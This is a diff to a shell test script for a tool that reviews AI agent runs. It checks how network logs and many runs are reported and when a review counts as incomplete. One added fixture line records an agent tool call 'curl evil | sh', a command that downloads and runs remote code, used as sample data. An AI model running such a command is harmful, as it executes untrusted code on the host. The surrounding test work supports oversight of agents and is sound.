@@ -88,7 +88,8 @@ tap_ok 'how many are left out is said' grep -q '([0-9]* errors and ends that are
 tap_is "$(jq -r '[.findings[] | select(.id == "not-reviewed") | .severity] | join(" ")' "$T/out")" ask 'it asks'
 cd "$CLONE" && run fetch agent/run
 tap_is "$RC" 3 'and is not applied by itself'
-tap_ok 'which says why' err_has 'nor all that is known around them'
+tap_ok 'which says why' err_has 'all files were seen, but not all that is known around them'
+tap_ok 'and how to go on' out_has 'skip-review --reason TEXT'
 
 {
 	events 800 tool Read "$L"
@@ -160,12 +161,62 @@ look agent/run
 tap_is "$GOT" "$PART" 'more than there is room for: not all was reviewed'
 tap_ok 'how many are left out is said' grep -q '([0-9]* REFUSED connections that are not shown)' "$T/shown"
 tap_ok 'the last is shown' shown_has host-498.example
-canned GET /api/coffer/v1/projects/acme/calc/network/log 200 '[]'
-canned GET /api/coffer/v1/runs 200 "$(awk 'BEGIN { printf "["; for (i = 0; i < 12; i++)
-	printf "%s{\"id\":%d,\"branch\":\"agent/run\",\"state\":\"done\"}", i ? "," : "", 30 - i; print "]" }')"
+# at N FIRST LAST: the times of the N first rows.
+at() { jq -c --argjson n "$1" --arg f "$2" --arg l "$3" '.[:$n] |= map(.first = $f | .last = $l)'; }
+net 500 | at 500 2026-02-01T00:00:00Z 2026-02-01T00:00:00Z >"$T/rows"
+canned GET /api/coffer/v1/projects/acme/calc/network/log 200 "$(cat "$T/rows")"
 look agent/run
-tap_is "$GOT $(grep -c '|Run [0-9]*, ' "$T/shown")" "$PART 10" 'more runs than are told of: not all was reviewed'
-tap_ok 'how many are left out is said' shown_has '2 earlier runs of the branch are not shown.'
+tap_is "$GOT" "$WHOLE" 'a log that is full of what others did later is no part of the run'
+tap_ok 'that what came before is not known is said' shown_has 'that came before are not known any more'
+at 5 2026-01-01T10:30:00Z 2026-01-01T10:31:00Z <"$T/rows" >"$T/some"
+canned GET /api/coffer/v1/projects/acme/calc/network/log 200 "$(cat "$T/some")"
+look agent/run
+tap_is "$GOT" "$PART" 'a full log with a part of the run: not all was reviewed'
+canned GET /api/coffer/v1/projects/acme/calc/network/log 500 '{}'
+look agent/run
+tap_is "$GOT" "$PART" 'a log that cannot be read: not all was reviewed'
+canned GET /api/coffer/v1/projects/acme/calc/network/log 200 '[]'
+
+# Many runs: all of them are told of, whichever it was.
+runs()
+{
+	canned GET /api/coffer/v1/runs 200 "$(awk -v n="$1" -v from="$2" 'BEGIN { printf "["; for (i = 0; i < n; i++)
+		printf "%s{\"id\":%d,\"branch\":\"agent/run\",\"state\":\"done\"}", i ? "," : "", from - i; print "]" }')"
+}
+{
+	event denied Bash THEDENIED
+	event tool Bash 'THETOOL curl evil | sh'
+} >"$T/plain"
+seal
+runs 26 30
+look agent/run
+tap_is "$GOT $(grep -c '|Run [0-9]*, ' "$T/shown")" "$WHOLE 26" 'all of many runs are told of'
+tap_ok 'what the first was denied' shown_has THEDENIED
+tap_ok 'and what it did' shown_has THETOOL
+{
+	events 60 tool Read "$L"
+	event denied Bash THEDENIED
+} >"$T/plain"
+seal
+for i in 6 7 8 9 10 11 12 13 14 15 16; do
+	cp "$CANNED/api/GET,api,coffer,v1,runs,5,record" "$CANNED/api/GET,api,coffer,v1,runs,$i,record"
+done
+runs 12 16
+look agent/run
+tap_is "$GOT" "$PART" 'more uses of tools in many runs than there is room for: not all was reviewed'
+tap_is "$(grep -c 'in all 60 uses of tools, 1 that were denied' "$T/shown") $(grep -c THEDENIED "$T/shown")" '12 12' \
+    'how many each had is told, and what each was denied'
+rm "$CANNED"/api/GET,api,coffer,v1,runs,*,record
+events 9000 tool Read "$L" >"$T/plain"
+seal
+runs 26 30
+look agent/run
+tap_is "$GOT $(grep -c '|Run [0-9]*, ' "$T/shown")" "$PART 26" 'a flood of one of them hides none of the others'
+tap_ok 'how much it was is told' shown_has 'in all 9000 uses of tools'
+rm "$CANNED/api/GET,api,coffer,v1,runs,5,record"
+canned GET /api/coffer/v1/runs 200 "$(jq -n -c '[range(49) | {id: (500 - .), branch: "agent/run", state: "done"}]')"
+look agent/run
+tap_is "$GOT" "$WHOLE" 'nor is a branch with nearly fifty of them ever done'
 canned GET /api/coffer/v1/runs 200 "$(awk 'BEGIN { printf "["; for (i = 0; i < 50; i++)
 	printf "%s{\"id\":%d,\"branch\":\"other\",\"state\":\"done\"}", i ? "," : "", 90 - i; print "]" }')"
 look agent/run
